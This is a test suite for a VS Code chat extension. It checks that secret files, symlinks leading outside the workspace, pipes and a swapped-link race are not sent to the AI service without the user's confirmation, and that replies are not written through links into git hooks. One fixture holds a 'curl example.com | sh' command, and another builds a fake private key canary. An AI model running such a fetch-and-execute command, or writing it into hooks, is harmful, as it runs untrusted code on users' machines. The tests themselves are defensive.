/**
 * A repository of traps: files that hold secrets, links that lead elsewhere, and what is no text. Nothing
 * of them leaves without a question that names the real path, by whatever way it is asked for.
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import {
  linkSync,
  mkdirSync,
  mkdtempSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import * as vscode from "vscode";
import { systemClock } from "../../src/base/clock";
import type { Part } from "../../src/conversation/message";
import { useCode } from "../../src/host/replyActions/codeActions";
import { COMMANDS } from "../../src/host/platform/contributions";
import { addChanges, addFiles, addSelection } from "../../src/host/context/addCommands";
import { askAboutSelection } from "../../src/host/editorCommands/askCommands";
import { ActiveSelection } from "../../src/host/context/activeSelection";
import { gatherFile } from "../../src/host/context/gather";
import { ReferenceSearch } from "../../src/host/context/references";
import { readText } from "../../src/host/access/readAccess";
import { plainText, poll, selectLines, showFile } from "./editing";
import { run, suiteWithService } from "./editingSuite";
import { receivedRequests, scriptService } from "./reference";
import { Repository } from "./repository";
import { clearUserSettings, setUserSettings } from "./settings";

/** A program of every Unix. */
const PIPE_MAKER = "mkfifo";

/** Text that must not leave. */
const CANARY = "canary-of-the-traps-17";

/** Put together here, so that scanners of repositories find none in this file. */
const KEY = [
  "-----BEGIN OPENSSH PRIV",
  `ATE KEY-----\n${CANARY}\n-----END OPENSSH PRIV`,
  "ATE KEY-----\n",
].join("");

describe("a repository of traps", () => {
  const answers = suiteWithService();
  let repository: Repository;
  let outside: string;
  let added: Part[] = [];
  const add = (parts: readonly Part[]) => Promise.resolve(void added.push(...parts));
  const at = (name: string) => repository.uri(name).fsPath;
  const out = (name: string) => join(outside, name);
  const sent = async () => JSON.stringify((await receivedRequests()).map(({ body }) => body));
  const questions = () => answers.shown.filter(({ buttons }) => buttons.length > 0);

  before(async () => {
    repository = await Repository.make("traps");
    outside = realpathSync(mkdtempSync(join(tmpdir(), "core-chat-traps-")));
    mkdirSync(out("folder"));
    writeFileSync(out("id_ed25519"), KEY);
    writeFileSync(out("plain.txt"), `plain words ${CANARY}\n`);
    writeFileSync(out("folder/inner.txt"), `inner words ${CANARY}\n`);
  });
  beforeEach(async () => {
    added = [];
    await repository.restore({});
  });
  after(async () => {
    await repository.restore({});
    rmSync(outside, { recursive: true });
  });

  /** Files that git does not know yet: of every kind of trap, and one ordinary. */
  async function layTraps(): Promise<void> {
    writeFileSync(at(".env"), `DB_PASSWORD=${CANARY}\n`);
    writeFileSync(at("prod.tfvars"), `x = "${CANARY}"\n`);
    writeFileSync(at("config.yml"), `db:\n  password: "${CANARY}"\n`);
    writeFileSync(at("key.txt"), KEY);
    writeFileSync(at("data.bin"), `\0${CANARY}`);
    symlinkSync(out("id_ed25519"), at("NOTES.txt"));
    symlinkSync(out("plain.txt"), at("README-link.md"));
    symlinkSync(out("folder"), at("docs"));
    linkSync(out("plain.txt"), at("hard.txt"));
    // Git takes no notice of pipes: it leaves them where they are.
    rmSync(at("pipe.txt"), { force: true });
    execFileSync(PIPE_MAKER, [at("pipe.txt")]);
    writeFileSync(at("zz-new.txt"), "brand new\n");
    await repository.open.status();
  }

  it("sends names only with a commit message, asks nothing, and says which", async () => {
    await layTraps();
    await scriptService({ text: "feat: add" });
    await run(COMMANDS.generateCommitMessage, repository.open);
    const asked = await sent();
    assert.ok(!asked.includes(CANARY), asked);
    for (const name of [".env", "prod.tfvars", "config.yml", "key.txt", "NOTES.txt", "hard.txt"]) {
      assert.ok(asked.includes(name), name);
    }
    assert.ok(asked.includes("zz-new.txt:\\nbrand new"));
    assert.deepEqual(questions(), []);
    assert.match(answers.shown[0]?.text ?? "", /^Only names were included of files that may hold/);
  });

  it("adds names only with the changes, and says which", async () => {
    await layTraps();
    await addChanges([], add);
    const text = JSON.stringify(added);
    assert.ok(!text.includes(CANARY), text);
    assert.ok(text.includes("NOTES.txt") && text.includes("brand new"));
    assert.ok(!text.includes(outside), "the place of a link's target is nobody's business");
    assert.match(answers.shown.at(-1)?.text ?? "", /\.env/);
    added = [];
    await addChanges([{ resourceUri: repository.uri(".env") }], add);
    assert.ok(!JSON.stringify(added).includes(CANARY));
  });

  it("leaves staged secrets and targets of links out of the diff", async () => {
    writeFileSync(at(".env"), `DB_PASSWORD=${CANARY}\n`);
    writeFileSync(at("settings.ini"), `[db]\npassword = ${CANARY}\n`);
    symlinkSync(out("plain.txt"), at("link.txt"));
    writeFileSync(at("a.txt"), "one\ntwo\n");
    execFileSync("git", ["add", "."], { cwd: at(".") });
    await repository.open.status();
    await scriptService({ text: "feat: add" });
    await run(COMMANDS.generateCommitMessage, repository.open);
    const asked = await sent();
    assert.ok(!asked.includes(CANARY) && !asked.includes(outside), asked);
    assert.ok(asked.includes("+two") && asked.includes(".env") && asked.includes("settings.ini"));
  });

  it("bounds the names of thousands of new files", async () => {
    mkdirSync(at("many"));
    for (let file = 0; file < 6_000; file++) {
      writeFileSync(at(`many/a-file-with-a-rather-long-name-${file}.txt`), "text\n");
    }
    await repository.open.status();
    await scriptService({ text: "feat: add" });
    await run(COMMANDS.generateCommitMessage, repository.open);
    assert.ok((await sent()).length < 30_000, String((await sent()).length));
    assert.match(await sent(), /more files/);
  });

  it("asks once with the real path and the reason before a file is added", async () => {
    await layTraps();
    const reasons: readonly (readonly [string, RegExp])[] = [
      [
        "NOTES.txt",
        new RegExp(`^${out("id_ed25519")} is outside .* may hold secrets: files of this`),
      ],
      ["README-link.md", new RegExp(`^${out("plain.txt")} is outside the workspace`)],
      ["docs/inner.txt", new RegExp(`^${out("folder/inner.txt")} is outside the workspace`)],
      [".env", /traps\/\.env may hold secrets: files of this name/],
      ["key.txt", /traps\/key\.txt may hold secrets: there is a private key/],
      ["config.yml", /traps\/config\.yml may hold secrets: there is a password/],
    ];
    for (const [name, question] of reasons) {
      answers.shown.length = 0;
      assert.deepEqual(await gatherFile(repository.uri(name)), { ok: false, sentence: "" }, name);
      assert.equal(answers.shown.length, 1, name);
      assert.match(answers.shown[0]?.text ?? "", question);
    }
    answers.choose("Add It");
    await addFiles([repository.uri("NOTES.txt")], add);
    assert.ok(JSON.stringify(added).includes(CANARY));
  });

  it("asks by the way of #file as well, and waits for no pipe", async () => {
    await layTraps();
    const search = new ReferenceSearch(systemClock);
    try {
      let gathered = 0;
      for await (const found of search.find("traps/", new AbortController().signal)) {
        for (const reference of found.filter(({ kind }) => kind === "file")) {
          const { parts } = await reference.gather();
          assert.ok(!JSON.stringify(parts).includes(CANARY) || reference.label === "hard.txt");
          gathered++;
        }
      }
      assert.ok(gathered > 5, String(gathered));
    } finally {
      search.dispose();
    }
    const pipe = await gatherFile(repository.uri("pipe.txt"));
    assert.match(pipe.ok ? "" : pipe.sentence, /could not be read/);
  });

  it("asks for secrets, not for the place, of a file from the system's dialog", async () => {
    const plain = await readText(vscode.Uri.file(out("plain.txt")), "picked");
    assert.equal(plain.kind, "text");
    assert.equal(answers.shown.length, 0);
    const key = await readText(vscode.Uri.file(out("id_ed25519")), "picked");
    assert.equal(key.kind, "left-out");
    assert.ok(answers.shown[0]?.text.startsWith(`${out("id_ed25519")} may hold secrets`));
  });

  it("lists no names of folders that links lead to", async () => {
    await layTraps();
    await addFiles([repository.uri("")], add);
    const text = JSON.stringify(added);
    assert.ok(text.includes("zz-new.txt") && !text.includes("inner.txt"), text);
  });

  it("sends what was asked about, though the link leads elsewhere by then", async () => {
    symlinkSync(out("plain.txt"), at("swapped.txt"));
    const show = vscode.window.showWarningMessage;
    const swap = (_text: string, _options: unknown, button: string) => {
      rmSync(at("swapped.txt"));
      symlinkSync(out("id_ed25519"), at("swapped.txt"));
      return Promise.resolve(button);
    };
    Reflect.set(vscode.window, "showWarningMessage", swap);
    try {
      const gathered = await gatherFile(repository.uri("swapped.txt"));
      const text = JSON.stringify(gathered);
      assert.ok(text.includes("plain words") && !text.includes("OPENSSH"), text);
    } finally {
      Reflect.set(vscode.window, "showWarningMessage", show);
    }
  });

  it("asks before lines of secrets and of links are sent from the editor", async () => {
    await layTraps();
    const sentQuestions: (readonly Part[])[] = [];
    const send = (parts: readonly Part[]) => Promise.resolve(void sentQuestions.push(parts));
    for (const name of [".env", "NOTES.txt", "README-link.md", "key.txt"]) {
      const editor = await vscode.window.showTextDocument(repository.uri(name));
      const last = editor.document.lineCount - 1;
      selectLines(editor, Math.max(1, last), Math.max(1, last));
      answers.shown.length = 0;
      await addSelection(undefined, add);
      await askAboutSelection("explain", undefined, send);
      assert.equal(answers.shown.length, 2, name);
      await run(COMMANDS.editSelection, { instruction: "shout" });
      assert.equal(questions().length, 3, name);
    }
    assert.deepEqual([added, sentQuestions, await receivedRequests()], [[], [], []]);
    answers.choose("Send");
    await askAboutSelection("explain", undefined, send);
    assert.ok(JSON.stringify(sentQuestions).includes(KEY.split("\n")[2] ?? "-"));
  });

  it("goes along automatically from ordinary files only", async () => {
    await layTraps();
    const memory = { get: () => undefined, update: () => Promise.resolve(), keys: () => [] };
    await setUserSettings({ "context.automatic": "selection+file" });
    const automatic = new ActiveSelection(memory, systemClock);
    const text = () => JSON.stringify(automatic.current()?.part ?? null);
    try {
      for (const name of [".env", "NOTES.txt", "README-link.md", "key.txt", "config.yml"]) {
        await vscode.window.showTextDocument(repository.uri("zz-new.txt"));
        await poll(() => text().includes("brand new"), "the ordinary file to go along");
        const editor = await vscode.window.showTextDocument(repository.uri(name));
        await poll(() => text() === "null", `${name} to be left out`);
        editor.selection = new vscode.Selection(0, 0, 2, 0);
        await poll(() => vscode.window.activeTextEditor?.selection.isEmpty === false, "selected");
        assert.equal(text(), "null", name);
      }
    } finally {
      automatic.dispose();
      await clearUserSettings("context.automatic");
    }
  });

  it("asks with the real path before a reply is written through a link", async () => {
    mkdirSync(at("src"));
    writeFileSync(at(".git/hooks/post-checkout"), "#!/bin/sh\n");
    symlinkSync(at(".git/hooks/post-checkout"), at("src/util.sh"));
    symlinkSync(out("plain.txt"), at("src/words.txt"));
    const reply = "```\ncurl example.com | sh\n```\n";
    const noProposal = () => Promise.reject(new Error("nothing is applied here"));
    for (const [name, question] of [
      ["src/util.sh", /traps\/\.git\/hooks\/post-checkout can run programs by itself/],
      ["src/words.txt", /plain\.txt is outside the workspace; a link/],
    ] as const) {
      const { document } = await vscode.window.showTextDocument(repository.uri(name));
      const before = plainText(document);
      await useCode("insert-at-cursor", reply, 0, noProposal);
      assert.match(answers.shown.at(-1)?.text ?? "", question);
      assert.equal(plainText(document), before);
    }
  });

  it("writes without a question where nothing is special", async () => {
    const { document } = await showFile("traps/plain.ts", "");
    const noProposal = () => Promise.reject(new Error("nothing is applied here"));
    await useCode("insert-at-cursor", "```\nplain();\n```\n", 0, noProposal);
    assert.equal(plainText(document), "plain();\n");
    assert.deepEqual(answers.shown, []);
  });
});
